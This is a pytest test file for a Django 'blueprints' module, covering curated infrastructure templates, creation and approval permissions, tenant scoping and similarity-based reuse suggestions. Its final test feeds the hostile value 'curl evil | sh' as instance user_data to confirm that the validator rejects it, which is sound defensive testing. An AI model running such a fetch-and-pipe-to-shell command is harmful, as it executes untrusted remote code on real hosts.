"""Blueprints: curated data, services (create, approve, use), scoping, reuse suggestions."""

from __future__ import annotations

from io import StringIO

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import call_command

from agents.offline_parser import parse
from blueprints.models import Blueprint, BlueprintStatus, BlueprintVersion
from blueprints.selectors import blueprints_for, reuse_spec, similar_blueprints, tfidf_cosine
from blueprints.services import (
    blueprint_add_version,
    blueprint_approve,
    blueprint_create_from_spec,
    blueprint_load_curated,
    blueprint_record_use,
)
from runs.audit import verify_all
from runs.models import AuditEvent

WEB_SPEC = {
    "stack": "web_tier",
    "action": "create",
    "parameters": {
        "name": "shop-web",
        "ami_id": "ami-0123456789abcdef0",
        "instance_type": "m5.large",
        "instance_count": 4,
        "vpc_cidr": "10.42.0.0/16",
    },
    "tags": {"team": "shop", "gantry:tenant": "acme"},
    "region": "ap-south-1",
    "account_id": "123456789012",
    "workspace": "acme-dev",
}


def make(world, spec=None, name="Shop web tier", description="", approve=True, **kwargs):
    blueprint = blueprint_create_from_spec(
        tenant=world.tenant, user=world.user("operator"), spec=spec or WEB_SPEC, name=name,
        description=description, **kwargs,
    )  # fmt: skip
    if approve:
        blueprint_approve(blueprint=blueprint, user=world.user("approver"))
        blueprint.refresh_from_db()
    return blueprint


# --- curated ---------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_curated_blueprints_are_loaded_by_the_migration():
    platform = Blueprint.objects.filter(tenant__isnull=True)
    assert set(platform.values_list("stack", flat=True)) == {
        "web_tier",
        "data_tier",
        "static_bucket",
        "eks_cluster",
    }
    assert all(bp.status == BlueprintStatus.APPROVED for bp in platform)
    assert all(bp.latest_approved_version() is not None for bp in platform)


@pytest.mark.django_db
def test_load_blueprints_is_idempotent():
    before = BlueprintVersion.objects.count()
    out = StringIO()
    call_command("load_blueprints", stdout=out)
    call_command("load_blueprints", stdout=out)
    assert "unchanged: web-tier, data-tier, static-bucket, eks-cluster" in out.getvalue()
    assert BlueprintVersion.objects.count() == before


@pytest.mark.django_db
def test_changed_curated_entry_gets_a_new_version(monkeypatch):
    import blueprints.services as services

    entries = services.curated()
    entries[0]["defaults"]["instance_type"] = "t3.small"
    monkeypatch.setattr(services, "curated", lambda: entries)
    report = blueprint_load_curated()
    assert report["updated"] == ["web-tier"]
    web = Blueprint.objects.get(tenant__isnull=True, slug="web-tier")
    assert [v.number for v in web.versions.all()] == [2, 1]
    assert web.latest_approved_version().spec["parameters"]["instance_type"] == "t3.small"
    assert AuditEvent.objects.filter(action="blueprint.curated_updated").count() == 1


# --- services --------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_save_as_blueprint_keeps_the_portable_part(own):
    blueprint = make(own, approve=False, source_run_id=17)
    assert blueprint.tenant == own.tenant and blueprint.status == BlueprintStatus.DRAFT
    assert blueprint.slug == "shop-web-tier" and blueprint.source_run_id == 17
    version = blueprint.latest_version()
    assert version.number == 1 and len(version.source_sha256) == 64
    assert version.spec == {
        "stack": "web_tier",
        "parameters": {"instance_type": "m5.large", "instance_count": 4, "vpc_cidr": "10.42.0.0/16"},
        "tags": {"team": "shop"},
    }
    event = AuditEvent.objects.get(action="blueprint.created")
    assert event.tenant == own.tenant and event.data["run_id"] == 17
    assert make(own, approve=False).slug == "shop-web-tier-2"


@pytest.mark.django_db
def test_create_is_checked(own, other):
    with pytest.raises(PermissionDenied):
        blueprint_create_from_spec(tenant=own.tenant, user=own.user("viewer"), spec=WEB_SPEC, name="x")
    with pytest.raises(PermissionDenied):
        blueprint_create_from_spec(tenant=own.tenant, user=other.user("admin"), spec=WEB_SPEC, name="x")
    with pytest.raises(ValidationError, match="instance_count must be at most 50"):
        bad = {**WEB_SPEC, "parameters": {"instance_count": 500}}
        blueprint_create_from_spec(tenant=own.tenant, user=own.user("operator"), spec=bad, name="x")
    with pytest.raises(ValidationError, match="unknown stack"):
        blueprint_create_from_spec(
            tenant=own.tenant, user=own.user("operator"), spec={"stack": "x"}, name="x"
        )
    assert not Blueprint.objects.filter(tenant=own.tenant).exists()


@pytest.mark.django_db
def test_approval_rules(own):
    blueprint = make(own, approve=False)
    with pytest.raises(PermissionDenied):
        blueprint_approve(blueprint=blueprint, user=own.user("operator"))
    version = blueprint_approve(blueprint=blueprint, user=own.user("approver"))
    assert version.approved_by == own.user("approver") and version.approved_at is not None
    blueprint.refresh_from_db()
    assert blueprint.status == BlueprintStatus.APPROVED
    with pytest.raises(ValidationError, match="already approved"):
        blueprint_approve(blueprint=blueprint, user=own.user("admin"))
    # Self-approval is refused when the tenant forbids it.
    mine = blueprint_create_from_spec(
        tenant=own.tenant, user=own.user("approver"), spec=WEB_SPEC, name="Mine"
    )
    with pytest.raises(PermissionDenied, match="you created"):
        blueprint_approve(blueprint=mine, user=own.user("approver"))
    assert AuditEvent.objects.filter(action="blueprint.approved").count() == 1
    assert all(report.ok for report in verify_all())


@pytest.mark.django_db
def test_platform_blueprints_are_approved_by_superusers_only(own):
    web = Blueprint.objects.get(tenant__isnull=True, slug="web-tier")
    with pytest.raises(PermissionDenied):
        blueprint_approve(blueprint=web, user=own.user("admin"))


@pytest.mark.django_db
def test_versions_are_immutable(own):
    blueprint = make(own)
    version = blueprint.latest_version()
    version.spec = {"stack": "web_tier", "parameters": {}, "tags": {}}
    with pytest.raises(ValueError, match="immutable"):
        version.save()
    new = blueprint_add_version(
        blueprint=blueprint, user=own.user("operator"), spec={**WEB_SPEC, "parameters": {"instance_count": 6}}
    )
    assert new.number == 2 and new.approved_at is None
    assert blueprint.latest_approved_version().number == 1
    with pytest.raises(ValidationError, match="this blueprint is a web_tier"):
        blueprint_add_version(blueprint=blueprint, user=own.user("operator"), spec={"stack": "static_bucket"})


@pytest.mark.django_db
def test_record_use(own):
    blueprint = make(own)
    used = blueprint_record_use(blueprint=blueprint, user=own.user("operator"), run_id=5)
    assert used.usage_count == 1
    web = Blueprint.objects.get(tenant__isnull=True, slug="web-tier")
    blueprint_record_use(blueprint=web, user=own.user("operator"), tenant=own.tenant)
    assert AuditEvent.objects.filter(action="blueprint.used", tenant=own.tenant).count() == 2
    with pytest.raises(ValidationError, match="only approved"):
        blueprint_record_use(blueprint=make(own, approve=False), user=own.user("operator"))


# --- scoping ---------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_for_user_returns_platform_and_own_rows(own, other):
    mine, theirs = make(own), make(other)
    visible = set(Blueprint.objects.for_user(own.user("viewer")))
    assert mine in visible and theirs not in visible
    assert {bp.slug for bp in visible if bp.tenant_id is None} == {
        "web-tier",
        "data-tier",
        "static-bucket",
        "eks-cluster",
    }
    approvable = Blueprint.objects.for_user(own.user("approver"), "blueprint.approve")
    assert set(approvable) == {mine}
    assert not Blueprint.objects.for_user(own.user("viewer"), "blueprint.approve").exists()
    versions = BlueprintVersion.objects.for_user(own.user("viewer"))
    assert versions.filter(blueprint=mine).exists() and not versions.filter(blueprint=theirs).exists()
    assert set(blueprints_for(own.user("viewer"), tenant=own.tenant)) == visible


# --- reuse -----------------------------------------------------------------------------------------


def names(matches):
    return [m.blueprint.slug for m in matches]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("text", "winner"),
    [
        ("Create 3 t3.medium behind ALB in ap-south-1", "web-tier"),
        ("create a postgres database in us-east-1", "data-tier"),
        ("create a bucket for static assets in us-east-1", "static-bucket"),
        ("create an eks cluster with 3 nodes in us-east-1", "eks-cluster"),
    ],
)
def test_curated_candidates_rank_by_request(own, text, winner):
    matches = similar_blueprints(parse(text), user=own.user("operator"), tenant=own.tenant)
    assert names(matches)[0] == winner
    assert len(matches) <= 3
    assert all(m.score < matches[0].score for m in matches[1:])


@pytest.mark.django_db
def test_the_closest_tenant_blueprint_wins(own, other):
    shop = make(own, name="Shop web tier", description="storefront web servers")
    batch = make(
        own,
        spec={**WEB_SPEC, "parameters": {"instance_type": "c5.4xlarge", "instance_count": 10}},
        name="Batch workers",
        description="batch compute fleet",
    )
    make(other, name="Other shop web", description="web servers m5.large")  # never suggested to own
    make(own, name="Draft web", approve=False)  # drafts are not suggested
    matches = similar_blueprints(
        parse("Create 4 m5.large web servers behind an ALB in ap-south-1"),
        user=own.user("operator"),
        tenant=own.tenant,
        limit=5,
    )
    assert names(matches)[0] == shop.slug
    assert names(matches)[:3] == [shop.slug, "web-tier", batch.slug]
    assert all(m.blueprint.tenant_id in (None, own.tenant.pk) for m in matches)
    assert "draft-web" not in names(matches)
    top = matches[0]
    assert top.differences == {}  # m5.large × 4 is exactly the shop blueprint
    curated = next(m for m in matches if m.blueprint.slug == "web-tier")
    assert curated.differences["instance_type"] == {"requested": "m5.large", "blueprint": "t3.micro"}
    assert curated.differences["instance_count"] == {"requested": 4, "blueprint": 2}
    assert top.parameter_score > curated.parameter_score
    # A small t3 request is closer to the curated defaults than to either tenant blueprint.
    small = similar_blueprints(
        parse("Create 3 t3.medium behind ALB in ap-south-1"), user=own.user("operator"), tenant=own.tenant
    )
    assert names(small) == ["web-tier", shop.slug, batch.slug]


@pytest.mark.django_db
def test_text_similarity_breaks_a_tie(own):
    spec = {"stack": "data_tier", "parameters": {"engine": "postgres"}, "tags": {}}
    make(own, spec=spec, name="Analytics warehouse", description="reporting warehouse for analytics")
    make(own, spec=spec, name="Orders database", description="orders for the checkout service")
    matches = similar_blueprints(
        parse("create a postgres database for the analytics warehouse in us-east-1"),
        user=own.user("operator"),
        tenant=own.tenant,
    )
    assert names(matches)[0] == "analytics-warehouse"


def test_tfidf_cosine():
    scores = tfidf_cosine("web servers behind a load balancer", ["web tier load balancer", "s3 bucket"])
    assert scores[0] > 0.3 and scores[1] == 0


@pytest.mark.django_db
def test_reuse_spec(own):
    blueprint = make(own)
    version = blueprint.latest_approved_version()
    spec = reuse_spec(
        version,
        {
            "parameters": {"name": "shop-2", "instance_count": 2},
            "tags": {"env": "dev"},
            "region": "ap-south-1",
        },
    )
    assert spec["stack"] == "web_tier" and spec["action"] == "create"
    assert spec["parameters"] == {
        "instance_type": "m5.large", "instance_count": 2, "vpc_cidr": "10.42.0.0/16", "name": "shop-2"
    }  # fmt: skip
    assert spec["tags"] == {"team": "shop", "env": "dev"} and spec["region"] == "ap-south-1"
    assert spec["blueprint"] == {"slug": blueprint.slug, "version": 1, "sha256": version.source_sha256}
    assert version.spec["parameters"]["instance_count"] == 4  # the version is untouched
    with pytest.raises(ValueError, match="not a parameter of web_tier"):
        reuse_spec(version, {"parameters": {"user_data": "curl evil | sh"}})
    with pytest.raises(ValueError, match="unknown override keys"):
        reuse_spec(version, {"provider": "x"})
